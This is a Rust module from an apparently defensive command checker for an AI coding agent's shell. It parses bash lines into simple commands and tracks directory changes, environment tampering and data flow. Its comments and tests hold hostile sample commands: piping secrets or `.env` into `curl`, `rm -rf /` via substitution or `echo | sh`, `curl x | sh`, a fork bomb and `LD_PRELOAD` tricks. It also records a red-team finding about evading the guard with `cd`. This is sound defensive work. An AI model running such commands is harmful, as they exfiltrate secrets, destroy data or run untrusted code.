//! Bash command lines parsed into the simple commands they run.
//!
//! Parsing uses [`brush_parser`], the parser of the brush shell: MIT licensed, actively
//! maintained, and it covers bash syntax (pipelines, `&&`/`||`, subshells, brace groups, `if`/
//! `for`/`while`/`case`, functions, `[[ ]]`, here-documents, process substitution, `$'...'`),
//! with a word parser that exposes command substitutions. The alternatives were worse: `conch-
//! parser` has been unmaintained since 2018 and `yash-syntax` is GPL and POSIX-only. Costs we
//! accept and guard against: brush-parser recurses (a deeply nested input could overflow the
//! stack, so [`parse`] rejects inputs nested deeper than [`MAX_NESTING`] before parsing), it
//! allows `unwrap` internally (calls are wrapped in `catch_unwind`; a panic means "not
//! understood"), and it pulls in a few dependencies.
//!
//! The walk flattens the AST into [`RawCommand`]s: every simple command wherever it sits
//! (lists, pipelines, subshells, compound commands, function bodies, `$(...)`, backticks,
//! process substitutions, `${x:-$(...)}`), in execution order where it matters (substitutions
//! before the command that uses them). `cd` is followed so that later relative paths resolve
//! against the right directory. Interpreting what each command does (wrappers, `bash -c`,
//! `find -exec`, ...) is [`super::commands`]' job.

use std::panic::{catch_unwind, AssertUnwindSafe};

use brush_parser::ast::{
    Command, CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, ExtendedTestExpr,
    IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline, Program, SeparatorOperator,
    SimpleCommand,
};
use brush_parser::{Parser, ParserOptions};

use super::paths::CwdState;
use super::words::{self, Word};

/// Longest command line parsed (longer ones are not understood: ask).
pub(crate) const MAX_LEN: usize = 128 * 1024;
/// Deepest bracket / keyword nesting handed to the parser (it recurses per level).
pub(crate) const MAX_NESTING: usize = 24;
/// Deepest nesting of scripts inside scripts (`$(...)`, `bash -c`, `eval`).
pub(crate) const MAX_DEPTH: usize = 8;
/// Most simple commands kept from one command line.
const MAX_COMMANDS: usize = 2_000;

/// A redirection of one simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Redirect {
    /// Writes (`>`, `>>`, `&>`, `<>`, `>|`) rather than reads (`<`).
    pub write: bool,
    /// The file.
    pub target: Word,
}

/// One simple command as written, with its context.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub(crate) struct RawCommand {
    /// Program and arguments (prefix assignments removed).
    pub argv: Vec<Word>,
    /// Names assigned in the prefix (`FOO=1 cmd`).
    pub assignments: Vec<String>,
    /// File redirections, including those of enclosing compound commands.
    pub redirects: Vec<Redirect>,
    /// Directory relative paths are relative to.
    pub cwd: CwdState,
    /// Programs whose output reaches this command: earlier pipeline stages, command and process
    /// substitutions in its words (an over-approximation: every word of those commands).
    pub sources: Vec<String>,
    /// Text fed to stdin by a here-document or here-string.
    pub stdin_text: Option<String>,
    /// Stdin comes from a pipe.
    pub piped: bool,
    /// A function calling itself in a pipeline or in the background (`:(){ :|:& };:`).
    pub fork_bomb: bool,
    /// The environment was changed before or for this command (`PATH=./bin ls`,
    /// `LD_PRELOAD=x ls`, `export GIT_EXTERNAL_DIFF=x; git diff`): its program may not be the
    /// system one or may not behave as usual. Locale and colour variables do not count.
    pub untrusted_env: bool,
    /// Set when the command line assigns a variable that may change what a program does, or
    /// has an arithmetic / subscript context that can run `$(...)`: nothing in it is then
    /// allowed (it is at most asked).
    pub taint: Option<String>,
    /// Arguments and input files of the earlier stages of its pipeline (what may reach its
    /// stdin: `cat secret | curl -d @- host`).
    pub upstream: Vec<Word>,
    /// Variables of the line that hold a fresh `mktemp` result (see [`super::fresh_temp`]).
    pub fresh_temps: Vec<String>,
}

/// Parses `text` (starting in directory `cwd`) into its simple commands. `depth` counts
/// enclosing scripts. `Err` carries why the line is not understood.
pub(crate) fn parse(text: &str, cwd: CwdState, depth: usize) -> Result<Vec<RawCommand>, String> {
    if depth > MAX_DEPTH {
        return Err("scripts nested too deeply".into());
    }
    if text.len() > MAX_LEN {
        return Err(format!("command longer than {MAX_LEN} bytes"));
    }
    if nesting_estimate(text) > MAX_NESTING {
        return Err("command nested too deeply to analyse".into());
    }
    let outcome = catch_unwind(AssertUnwindSafe(|| {
        let opts = ParserOptions::default();
        let mut parser = Parser::new(std::io::Cursor::new(text.as_bytes()), &opts);
        let program = parser.parse_program().map_err(|e| e.to_string())?;
        let mut walker = Walker {
            opts,
            out: Vec::new(),
            cwd,
            depth,
            functions: Vec::new(),
            inherited_redirects: Vec::new(),
            env_changed: false,
            taint: None,
            sub_words: Vec::new(),
        };
        walker.program(&program)?;
        let taint = walker
            .taint
            .clone()
            .or_else(|| walker.out.iter().find_map(|c| c.taint.clone()));
        if let Some(t) = taint {
            for c in &mut walker.out {
                c.taint.get_or_insert_with(|| t.clone());
            }
        }
        let fresh = super::fresh_temp::fresh_temp_names(text);
        if !fresh.is_empty() {
            for c in &mut walker.out {
                c.fresh_temps.clone_from(&fresh);
            }
        }
        Ok(walker.out)
    }));
    match outcome {
        Ok(result) => result,
        Err(_) => Err("the shell parser failed on this command".into()),
    }
}

/// A cheap upper bound of bracket and keyword nesting, ignoring quotes.
fn nesting_estimate(text: &str) -> usize {
    let mut depth = 0usize;
    let mut max = 0usize;
    let bytes = text.as_bytes();
    let mut word_start = true;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        match b {
            b'(' | b'{' | b'[' => depth += 1,
            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
            _ => {}
        }
        if word_start && b.is_ascii_alphabetic() {
            let end = bytes[i..]
                .iter()
                .position(|c| !c.is_ascii_alphanumeric() && *c != b'_')
                .map_or(bytes.len(), |p| i + p);
            match &bytes[i..end] {
                b"if" | b"for" | b"while" | b"until" | b"case" | b"select" => depth += 1,
                b"fi" | b"done" | b"esac" => depth = depth.saturating_sub(1),
                _ => {}
            }
            i = end;
            word_start = false;
            max = max.max(depth);
            continue;
        }
        word_start = !b.is_ascii_alphanumeric() && b != b'_' && b != b'-';
        max = max.max(depth);
        i += 1;
    }
    max
}

/// Pipeline / background context of the command being walked.
#[derive(Clone, Copy, Default)]
struct Place {
    in_pipeline: bool,
    background: bool,
}

struct Walker {
    opts: ParserOptions,
    out: Vec<RawCommand>,
    cwd: CwdState,
    depth: usize,
    functions: Vec<String>,
    inherited_redirects: Vec<Redirect>,
    /// A variable other than locale / colour ones was assigned earlier in the line.
    env_changed: bool,
    /// Why nothing in the line may be allowed (see [`RawCommand::taint`]).
    taint: Option<String>,
    /// Arguments of the commands run by substitutions since the current simple command began
    /// (their output may be in its arguments: `curl -d "$(cat .env)"`).
    sub_words: Vec<Word>,
}

impl Walker {
    fn taint(&mut self, why: String) {
        self.taint.get_or_insert(why);
    }

    fn push(&mut self, cmd: RawCommand) -> Result<(), String> {
        if self.out.len() >= MAX_COMMANDS {
            return Err("too many commands to analyse".into());
        }
        self.out.push(cmd);
        Ok(())
    }

    fn program(&mut self, p: &Program) -> Result<(), String> {
        for list in &p.complete_commands {
            self.list(list, Place::default())?;
        }
        Ok(())
    }

    /// A `cd` moves the directory of what follows only where it certainly ran: the commands
    /// joined to it by `&&`. After `;` (it may have failed: `cd a b`, `cd file`), after `||`,
    /// after a `cd` that was itself conditional (`false && cd d; ...`), the directory is
    /// unknown; a `cd` in a pipeline stage or in the background runs in a subshell and moves
    /// nothing (red team, stop 26: each of these read `../../.bashrc` as if inside).
    fn list(&mut self, list: &CompoundList, place: Place) -> Result<(), String> {
        for item in &list.0 {
            let async_item = matches!(item.1, SeparatorOperator::Async);
            let background = place.background || async_item;
            let place = Place {
                background,
                ..place
            };
            let before = self.cwd.clone();
            self.pipeline(&item.0.first, place)?;
            for next in &item.0.additional {
                let p = match next {
                    brush_parser::ast::AndOr::And(p) => p,
                    brush_parser::ast::AndOr::Or(p) => {
                        if self.cwd != before {
                            self.cwd = CwdState::Unknown;
                        }
                        p
                    }
                };
                self.pipeline(p, place)?;
            }
            if async_item {
                self.cwd = before;
            } else if self.cwd != before {
                self.cwd = CwdState::Unknown;
            }
        }
        Ok(())
    }

    fn pipeline(&mut self, p: &Pipeline, place: Place) -> Result<(), String> {
        let in_pipeline = place.in_pipeline || p.seq.len() > 1;
        let mut stage_starts = Vec::with_capacity(p.seq.len());
        let before = self.cwd.clone();
        for cmd in &p.seq {
            stage_starts.push(self.out.len());
            self.command(
                cmd,
                Place {
                    in_pipeline,
                    ..place
                },
            )?;
            if p.seq.len() > 1 {
                // Each stage of a pipeline is a subshell.
                self.cwd = before.clone();
            }
        }
        if p.seq.len() > 1 {
            let end = self.out.len();
            for (k, start) in stage_starts.iter().enumerate().skip(1) {
                let upstream: Vec<String> = self.out[stage_starts[0]..*start]
                    .iter()
                    .flat_map(command_words)
                    .collect();
                let upstream_words: Vec<Word> = self.out[stage_starts[0]..*start]
                    .iter()
                    .flat_map(|c| {
                        c.argv
                            .iter()
                            .skip(1)
                            .chain(c.redirects.iter().filter(|r| !r.write).map(|r| &r.target))
                            .filter(|w| w.value.as_deref().is_none_or(|v| !v.starts_with('-')))
                            .cloned()
                    })
                    .collect();
                let stage_end = stage_starts.get(k + 1).copied().unwrap_or(end);
                let echoed = match &self.out[stage_starts[k - 1]..*start] {
                    [only] => echoed_text(only),
                    _ => None,
                };
                for cmd in &mut self.out[*start..stage_end] {
                    cmd.piped = true;
                    cmd.sources.extend(upstream.iter().cloned());
                    cmd.upstream.extend(upstream_words.iter().cloned());
                    if cmd.stdin_text.is_none() {
                        cmd.stdin_text.clone_from(&echoed);
                    }
                }
            }
        }
        Ok(())
    }

    fn command(&mut self, cmd: &Command, place: Place) -> Result<(), String> {
        match cmd {
            Command::Simple(sc) => self.simple(sc, place),
            Command::Compound(cc, redirects) => {
                let saved = self.inherited_redirects.len();
                let start = self.out.len();
                let mut stdin_text = None;
                if let Some(list) = redirects {
                    for r in &list.0 {
                        let (redirect, text) = self.redirect(r)?;
                        if let Some(r) = redirect {
                            self.inherited_redirects.push(r);
                        }
                        stdin_text = stdin_text.or(text);
                    }
                }
                let outcome = self.compound(cc, place);
                if self.out.len() == start && self.inherited_redirects.len() > saved {
                    // `{ :; } > f` with nothing else: keep the redirection visible.
                    let cmd = RawCommand {
                        redirects: self.inherited_redirects[saved..].to_vec(),
                        cwd: self.cwd.clone(),
                        ..RawCommand::default()
                    };
                    self.push(cmd)?;
                }
                if stdin_text.is_some() {
                    for c in &mut self.out[start..] {
                        c.stdin_text = c.stdin_text.take().or(stdin_text.clone());
                    }
                }
                self.inherited_redirects.truncate(saved);
                outcome
            }
            Command::Function(f) => {
                self.functions.push(f.fname.value.clone());
                let saved = self.inherited_redirects.len();
                if let Some(list) = &f.body.1 {
                    for r in &list.0 {
                        if let (Some(r), _) = self.redirect(r)? {
                            self.inherited_redirects.push(r);
                        }
                    }
                }
                let before = self.cwd.clone();
                let outcome = self.compound(&f.body.0, Place::default());
                if self.cwd != before {
                    // It moves the directory whenever it is called.
                    self.cwd = CwdState::Unknown;
                }
                self.inherited_redirects.truncate(saved);
                self.functions.pop();
                outcome
            }
            Command::ExtendedTest(test, redirects) => {
                let start = self.out.len();
                self.test_expr(&test.expr)?;
                let mut cmd = RawCommand {
                    cwd: self.cwd.clone(),
                    redirects: self.inherited_redirects.clone(),
                    ..RawCommand::default()
                };
                if let Some(list) = redirects {
                    for r in &list.0 {
                        if let (Some(r), _) = self.redirect(r)? {
                            cmd.redirects.push(r);
                        }
                    }
                }
                cmd.sources = self.out[start..].iter().flat_map(command_words).collect();
                self.push(cmd)
            }
        }
    }

    fn test_expr(&mut self, e: &ExtendedTestExpr) -> Result<(), String> {
        match e {
            ExtendedTestExpr::And(a, b) | ExtendedTestExpr::Or(a, b) => {
                self.test_expr(a)?;
                self.test_expr(b)
            }
            ExtendedTestExpr::Not(a) | ExtendedTestExpr::Parenthesized(a) => self.test_expr(a),
            ExtendedTestExpr::UnaryTest(pred, w) => {
                use brush_parser::ast::UnaryPredicate as U;
                if matches!(
                    pred,
                    U::ShellVariableIsSetAndAssigned | U::ShellVariableIsSetAndNameRef
                ) {
                    self.taint(format!(
                        "`[[ -v {} ]]` evaluates an array subscript",
                        w.value
                    ));
                }
                self.word(&w.value).map(|_| ())
            }
            ExtendedTestExpr::BinaryTest(op, a, b) => {
                use brush_parser::ast::BinaryPredicate as B;
                let arithmetic = matches!(
                    op,
                    B::ArithmeticEqualTo
                        | B::ArithmeticNotEqualTo
                        | B::ArithmeticLessThan
                        | B::ArithmeticLessThanOrEqualTo
                        | B::ArithmeticGreaterThan
                        | B::ArithmeticGreaterThanOrEqualTo
                );
                let number = |s: &str| {
                    let s = s.trim().trim_start_matches(['-', '+']);
                    !s.is_empty() && s.chars().all(|c| c.is_ascii_digit())
                };
                if arithmetic && !(number(&a.value) && number(&b.value)) {
                    self.taint(format!(
                        "`[[ {} {op} {} ]]` evaluates its operands as arithmetic",
                        a.value, b.value
                    ));
                }
                self.word(&a.value)?;
                self.word(&b.value).map(|_| ())
            }
        }
    }

    fn compound(&mut self, cc: &CompoundCommand, place: Place) -> Result<(), String> {
        let before = self.cwd.clone();
        match cc {
            CompoundCommand::BraceGroup(g) => return self.list(&g.list, place),
            CompoundCommand::Subshell(s) => {
                let outcome = self.list(&s.list, place);
                self.cwd = before;
                return outcome;
            }
            CompoundCommand::Arithmetic(a) => {
                self.taint(format!("`(( {} ))` is arithmetic evaluation", a.expr.value));
                self.word(&a.expr.value)?;
            }
            CompoundCommand::ArithmeticForClause(f) => {
                self.taint("`for (( ))` is arithmetic evaluation".into());
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.word(&e.value)?;
                }
                self.list(&f.body.list, place)?;
            }
            CompoundCommand::ForClause(f) => {
                if !is_inert_variable(&f.variable_name) {
                    self.taint(format!(
                        "`for {} in` assigns that variable",
                        f.variable_name
                    ));
                }
                for w in f.values.iter().flatten() {
                    self.word(&w.value)?;
                }
                self.list(&f.body.list, place)?;
            }
            CompoundCommand::CaseClause(c) => {
                self.word(&c.value.value)?;
                for item in &c.cases {
                    for p in &item.patterns {
                        self.word(&p.value)?;
                    }
                    if let Some(cmd) = &item.cmd {
                        self.list(cmd, place)?;
                    }
                }
            }
            CompoundCommand::IfClause(c) => {
                self.list(&c.condition, place)?;
                self.list(&c.then, place)?;
                for e in c.elses.iter().flatten() {
                    if let Some(cond) = &e.condition {
                        self.list(cond, place)?;
                    }
                    self.list(&e.body, place)?;
                }
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                self.list(&w.0, place)?;
                self.list(&w.1.list, place)?;
            }
            CompoundCommand::Coprocess(c) => {
                self.command(
                    &c.body,
                    Place {
                        background: true,
                        ..place
                    },
                )?;
                self.cwd = before;
                return Ok(());
            }
        }
        if self.cwd != before {
            // A `cd` that may or may not have run.
            self.cwd = CwdState::Unknown;
        }
        Ok(())
    }

    /// Expands a word and walks the scripts of its command substitutions (which run first).
    /// Returns the word and the words of the substituted commands.
    fn word(&mut self, raw: &str) -> Result<(Word, Vec<String>), String> {
        if let Some(why) = evaluating_expansion(raw) {
            self.taint(why);
        }
        let w = words::expand(raw, &self.opts)?;
        if w.value.is_none() {
            if let Some(name) = secret_capable_variable(raw) {
                self.taint(format!(
                    "`${name}` may hold a secret (only inert variables are expanded)"
                ));
            }
        }
        let mut sources = Vec::new();
        for sub in &w.substitutions {
            sources.extend(self.nested(sub)?);
        }
        Ok((w, sources))
    }

    /// Walks a nested script; returns the words of its commands (they feed the caller).
    fn nested(&mut self, script: &str) -> Result<Vec<String>, String> {
        let cmds = parse(script, self.cwd.clone(), self.depth + 1)?;
        let words: Vec<String> = cmds.iter().flat_map(command_words).collect();
        for c in &cmds {
            self.sub_words.extend(c.argv.iter().skip(1).cloned());
            self.sub_words.extend(
                c.redirects
                    .iter()
                    .filter(|r| !r.write)
                    .map(|r| r.target.clone()),
            );
        }
        for c in cmds {
            self.push(c)?;
        }
        Ok(words)
    }

    fn subshell_list(&mut self, list: &CompoundList) -> Result<Vec<String>, String> {
        let start = self.out.len();
        let before = self.cwd.clone();
        self.list(list, Place::default())?;
        self.cwd = before;
        Ok(self.out[start..].iter().flat_map(command_words).collect())
    }

    /// Converts a redirection; also returns here-document / here-string text.
    fn redirect(&mut self, r: &IoRedirect) -> Result<(Option<Redirect>, Option<String>), String> {
        match r {
            IoRedirect::File(_, kind, target) => {
                let word = match target {
                    IoFileRedirectTarget::Filename(w) => self.word(&w.value)?.0,
                    IoFileRedirectTarget::Fd(_) => return Ok((None, None)),
                    IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                        self.subshell_list(&sub.list)?;
                        return Ok((None, None));
                    }
                    IoFileRedirectTarget::Duplicate(w) => {
                        let (word, _) = self.word(&w.value)?;
                        let is_fd = word.value.as_deref().is_some_and(|v| {
                            v == "-" || v.trim_end_matches('-').parse::<u32>().is_ok()
                        });
                        if is_fd {
                            return Ok((None, None));
                        }
                        word
                    }
                };
                let write = !matches!(
                    kind,
                    IoFileRedirectKind::Read | IoFileRedirectKind::DuplicateInput
                );
                Ok((
                    Some(Redirect {
                        write,
                        target: word,
                    }),
                    None,
                ))
            }
            IoRedirect::HereDocument(_, doc) => {
                if doc.requires_expansion {
                    let subs = words::heredoc_substitutions(&doc.doc.value, &self.opts)?;
                    for s in subs {
                        self.nested(&s)?;
                    }
                }
                Ok((None, Some(doc.doc.value.clone())))
            }
            IoRedirect::HereString(_, w) => {
                let (word, _) = self.word(&w.value)?;
                let text = word.value.clone().unwrap_or_else(|| word.raw.clone());
                Ok((None, Some(text)))
            }
            IoRedirect::OutputAndError(w, _) => {
                let (word, _) = self.word(&w.value)?;
                Ok((
                    Some(Redirect {
                        write: true,
                        target: word,
                    }),
                    None,
                ))
            }
        }
    }

    fn simple(&mut self, sc: &SimpleCommand, place: Place) -> Result<(), String> {
        let mut cmd = RawCommand {
            redirects: self.inherited_redirects.clone(),
            ..RawCommand::default()
        };
        // Words of this command's own substitutions; an enclosing command's (this one may sit
        // in its process substitution) are put back afterwards.
        let outer_sub_words = std::mem::take(&mut self.sub_words);
        if let Some(prefix) = &sc.prefix {
            for item in &prefix.0 {
                self.item(item, true, &mut cmd)?;
            }
        }
        if let Some(w) = &sc.word_or_name {
            let (word, sources) = self.word(&w.value)?;
            cmd.sources.extend(sources);
            cmd.argv.push(word);
        }
        for item in sc.suffix.iter().flat_map(|s| s.0.iter()) {
            self.item(item, false, &mut cmd)?;
        }
        cmd.cwd = self.cwd.clone();
        if let Some(name) = cmd.argv.first().and_then(|w| w.value.as_deref()) {
            if self.functions.iter().any(|f| f == name) && (place.in_pipeline || place.background) {
                cmd.fork_bomb = true;
            }
        }
        cmd.upstream.append(&mut self.sub_words);
        self.sub_words = outer_sub_words;
        self.track_cd(&cmd);
        self.track_env(&mut cmd);
        self.push(cmd)
    }

    /// Notes environment changes: for this command (`LD_PRELOAD=x cmd`) and, when they outlive
    /// it (`PATH=x`, `export PATH=x`), for every later one.
    fn track_env(&mut self, cmd: &mut RawCommand) {
        if let Some(name) = cmd.assignments.iter().find(|a| !is_inert_variable(a)) {
            self.taint(format!(
                "assigns `{name}`, which may change what programs do"
            ));
        }
        let assigns = cmd.assignments.iter().any(|a| !is_benign_variable(a));
        let exported = matches!(
            cmd.argv.first().and_then(|w| w.value.as_deref()),
            Some("export" | "declare" | "typeset" | "readonly" | "local")
        ) && cmd.argv[1..].iter().any(|w| {
            let text = w.value.as_deref().unwrap_or(&w.raw);
            text.split_once('=')
                .is_some_and(|(name, _)| !is_benign_variable(name.trim_end_matches('+')))
        });
        cmd.untrusted_env = self.env_changed || assigns;
        if exported || (assigns && cmd.argv.is_empty()) {
            self.env_changed = true;
        }
    }

    fn item(
        &mut self,
        item: &CommandPrefixOrSuffixItem,
        prefix: bool,
        cmd: &mut RawCommand,
    ) -> Result<(), String> {
        match item {
            CommandPrefixOrSuffixItem::IoRedirect(r) => {
                let (redirect, text) = self.redirect(r)?;
                cmd.redirects.extend(redirect);
                if text.is_some() {
                    cmd.stdin_text = text;
                }
            }
            CommandPrefixOrSuffixItem::Word(w) => {
                let (word, sources) = self.word(&w.value)?;
                cmd.sources.extend(sources);
                cmd.argv.push(word);
            }
            CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
                if prefix {
                    let name = match &a.name {
                        brush_parser::ast::AssignmentName::VariableName(n) => n.clone(),
                        brush_parser::ast::AssignmentName::ArrayElementName(n, i) => {
                            format!("{n}[{i}]")
                        }
                    };
                    let (_, sources) = self.word(&w.value)?;
                    cmd.sources.extend(sources);
                    cmd.assignments.push(name);
                } else {
                    let (word, sources) = self.word(&w.value)?;
                    cmd.sources.extend(sources);
                    cmd.argv.push(word);
                }
            }
            CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                let start = self.out.len();
                let sources = self.subshell_list(&sub.list)?;
                cmd.sources.extend(sources);
                // What `<(cat .env)` reads reaches this command (`curl -d @<(cat .env)`).
                let words: Vec<Word> = self.out[start..]
                    .iter()
                    .flat_map(|c| {
                        c.argv.iter().skip(1).cloned().chain(
                            c.redirects
                                .iter()
                                .filter(|r| !r.write)
                                .map(|r| r.target.clone()),
                        )
                    })
                    .collect();
                self.sub_words.extend(words);
                cmd.argv.push(Word::process_substitution());
            }
        }
        Ok(())
    }

    /// Follows `cd` / `pushd` / `popd` for the commands after this one.
    fn track_cd(&mut self, cmd: &RawCommand) {
        // `builtin cd`, `command cd`: the same `cd`.
        let skip = cmd
            .argv
            .iter()
            .take_while(|w| matches!(w.value.as_deref(), Some("builtin" | "command")))
            .count();
        let argv = &cmd.argv[skip..];
        let Some(program) = argv.first().and_then(|w| w.value.as_deref()) else {
            return;
        };
        match program {
            "cd" | "pushd" if argv.iter().any(|w| w.raw.contains(['{', '*', '?', '['])) => {
                // Brace expansion and globs are not applied to the value: unknown directory.
                self.cwd = CwdState::Unknown;
            }
            "cd" | "pushd" => {
                let target = argv[1..]
                    .iter()
                    .find(|w| !w.display().starts_with('-') || w.display() == "-");
                self.cwd = match target {
                    None => self.cwd.cd("~"),
                    Some(w) => match (&w.value, w.tilde) {
                        (Some(v), _) if v == "-" => CwdState::Unknown,
                        (Some(v), _) if super::glob::has_glob_chars(v) => CwdState::Unknown,
                        (Some(v), tilde) if !v.starts_with('~') || tilde => self.cwd.cd(v),
                        (Some(v), _) => self.cwd.cd(&format!("./{v}")),
                        (None, _) => CwdState::Unknown,
                    },
                };
            }
            "popd" => self.cwd = CwdState::Unknown,
            _ => {}
        }
    }
}

/// Variables whose assignment cannot change what a program or the shell does: lowercase
/// names (no program reads them from the environment, but the `*_proxy` ones) and
/// [`is_benign_variable`]. An array element (`a[i]=`) is never inert: its subscript is
/// evaluated.
pub(crate) fn is_inert_variable(name: &str) -> bool {
    let lowercase = name
        .chars()
        .next()
        .is_some_and(|c| c.is_ascii_lowercase() || c == '_')
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_')
        && !name.ends_with("proxy")
        && name != "_"
        // zsh ties these to PATH, CDPATH, FPATH, ... (`for path in .; do cat x; done` runs
        // `./cat` in zsh, Claude Code's shell on macOS).
        && !ZSH_SPECIAL_LOWERCASE.contains(&name);
    lowercase || is_benign_variable(name)
}

/// zsh's lowercase special parameters: arrays tied to environment variables and the ones
/// that change how the shell runs.
const ZSH_SPECIAL_LOWERCASE: &[&str] = &[
    "path",
    "cdpath",
    "fpath",
    "manpath",
    "module_path",
    "mailpath",
    "fignore",
    "psvar",
    "watch",
    "argv",
    "histchars",
    "prompt",
    "status",
    "pipestatus",
    "signals",
    "zsh_eval_context",
];

/// Why a word's expansion can evaluate arithmetic on a variable (which runs `$(...)` found
/// in its value or in an array subscript): `$((x))`, `$[x]`, `${a[i]}`, `${x:i}`. Quotes are
/// ignored (over-approximation: a quoted `'$((x))'` is treated the same).
fn evaluating_expansion(raw: &str) -> Option<String> {
    let variable_operand = |s: &str| {
        s.chars()
            .any(|c| c.is_ascii_alphabetic() || c == '$' || c == '`')
    };
    for pat in ["$((", "$["] {
        if let Some(pos) = raw.find(pat) {
            if variable_operand(&raw[pos + pat.len()..]) {
                return Some(format!("`{raw}` evaluates arithmetic on variables"));
            }
        }
    }
    let mut rest = raw;
    while let Some(pos) = rest.find("${") {
        let inner = &rest[pos + 2..];
        let end = inner.find('}').unwrap_or(inner.len());
        let body = &inner[..end];
        let name_len = body
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '#' || c == '!'))
            .unwrap_or(body.len());
        if body.starts_with('!') {
            return Some(format!("`{raw}` is an indirect expansion"));
        }
        let after = match &body[name_len..] {
            a if name_len == 0 && a.starts_with(['@', '*']) => &a[1..],
            a => a,
        };
        if after.starts_with('@') {
            return Some(format!("`{raw}` uses a transformation operator"));
        }
        if let Some(sub) = after.strip_prefix('[') {
            let idx = sub.split(']').next().unwrap_or_default();
            if !(idx == "@"
                || idx == "*"
                || (!idx.is_empty() && idx.chars().all(|c| c.is_ascii_digit())))
            {
                return Some(format!("`{raw}` evaluates an array subscript"));
            }
        }
        if let Some(off) = after.strip_prefix(':') {
            if !off.starts_with(['-', '=', '?', '+']) && variable_operand(off) {
                return Some(format!("`{raw}` evaluates a substring offset"));
            }
        }
        rest = &inner[end.min(inner.len())..];
    }
    None
}

/// The first variable expanded in `raw` that is neither lowercase (a shell-local name) nor
/// on the inert list: its value could be a token (`$MAESTRO_OPERATOR_TOKEN`). Quotes are
/// ignored (over-approximation).
fn secret_capable_variable(raw: &str) -> Option<String> {
    const INERT: &[&str] = &[
        "HOME",
        "PWD",
        "OLDPWD",
        "USER",
        "LOGNAME",
        "SHELL",
        "PATH",
        "TMPDIR",
        "HOSTNAME",
        "UID",
        "EUID",
        "PPID",
        "RANDOM",
        "LINENO",
        "SECONDS",
        "BASH_VERSION",
        "OSTYPE",
        "HOSTTYPE",
        "MACHTYPE",
        "IFS",
        "PIPESTATUS",
        "EPOCHSECONDS",
        "SHLVL",
        "CARGO_TARGET_DIR",
        "CARGO_HOME",
        "RUSTUP_HOME",
        "VIRTUAL_ENV",
        "GOPATH",
        "XDG_CONFIG_HOME",
        "XDG_CACHE_HOME",
        "XDG_DATA_HOME",
        "XDG_RUNTIME_DIR",
        "CI",
        "EDITOR",
        "DISPLAY",
    ];
    let bytes = raw.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'$' {
            let mut j = i + 1;
            if bytes.get(j) == Some(&b'{') {
                j += 1;
            }
            let start = j;
            while j < bytes.len() && (bytes[j].is_ascii_alphanumeric() || bytes[j] == b'_') {
                j += 1;
            }
            let name = &raw[start..j];
            if name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                && !is_inert_variable(name)
                && !INERT.contains(&name)
            {
                return Some(name.to_string());
            }
            i = j.max(i + 1);
        } else {
            i += 1;
        }
    }
    None
}

/// Variables that only change formatting (locale, time zone, colours, terminal size).
pub(crate) fn is_benign_variable(name: &str) -> bool {
    matches!(
        name,
        "LANG"
            | "LANGUAGE"
            | "TZ"
            | "NO_COLOR"
            | "FORCE_COLOR"
            | "CLICOLOR"
            | "CLICOLOR_FORCE"
            | "TERM"
            | "COLUMNS"
            | "LINES"
    ) || name.starts_with("LC_")
}

/// The text `echo` / `printf` with literal arguments writes (roughly: arguments joined by
/// spaces), so that `echo 'rm -rf /' | sh` can be read.
fn echoed_text(cmd: &RawCommand) -> Option<String> {
    let program = cmd.argv.first()?.value.as_deref()?;
    if !matches!(program, "echo" | "printf") || !cmd.redirects.is_empty() {
        return None;
    }
    let args: Option<Vec<&str>> = cmd.argv[1..].iter().map(|w| w.value.as_deref()).collect();
    let args = args?;
    let skip = if program == "echo" {
        args.iter()
            .take_while(|a| matches!(**a, "-n" | "-e" | "-E" | "-ne" | "-en"))
            .count()
    } else {
        0
    };
    Some(args[skip..].join(" "))
}

/// Every static word of a command, as base names (`/usr/bin/curl` gives `curl`).
pub(crate) fn command_words(cmd: &RawCommand) -> Vec<String> {
    cmd.argv
        .iter()
        .filter_map(|w| w.value.as_deref())
        .map(|v| v.rsplit('/').next().unwrap_or(v).to_string())
        .chain(cmd.sources.iter().cloned())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argvs(text: &str) -> Vec<Vec<String>> {
        parse(text, CwdState::Session, 0)
            .unwrap_or_default()
            .iter()
            .map(|c| c.argv.iter().map(|w| w.display().to_string()).collect())
            .collect()
    }

    #[test]
    fn splits() {
        assert_eq!(
            argvs("a 1 && b 2 || c; d | e & (f) ; { g; }"),
            vec![
                vec!["a", "1"],
                vec!["b", "2"],
                vec!["c"],
                vec!["d"],
                vec!["e"],
                vec!["f"],
                vec!["g"]
            ]
        );
        assert_eq!(argvs("echo $(rm -rf /)")[0], vec!["rm", "-rf", "/"]);
        assert_eq!(argvs("FOO=1 /bin/rm -rf /")[0], vec!["/bin/rm", "-rf", "/"]);
        assert_eq!(argvs("if a; then b; fi").len(), 2);
    }

    #[test]
    fn context() {
        let cmds = parse("curl x | sh", CwdState::Session, 0).unwrap_or_default();
        assert!(cmds[1].sources.contains(&"curl".to_string()));
        let cmds = parse("cd /tmp && rm x", CwdState::Session, 0).unwrap_or_default();
        assert_eq!(cmds[1].cwd, CwdState::Dir("/tmp".into()));
        let cmds = parse(":(){ :|:& };:", CwdState::Session, 0).unwrap_or_default();
        assert!(cmds.iter().any(|c| c.fork_bomb));
        let cmds = parse("echo hi > .env", CwdState::Session, 0).unwrap_or_default();
        assert_eq!(cmds[0].redirects[0].target.display(), ".env");
        assert!(parse("echo \"unterminated", CwdState::Session, 0).is_err());
        let deep = format!("{}ls{}", "{ ".repeat(100), ";}".repeat(100));
        assert!(parse(&deep, CwdState::Session, 0).is_err());
    }
}
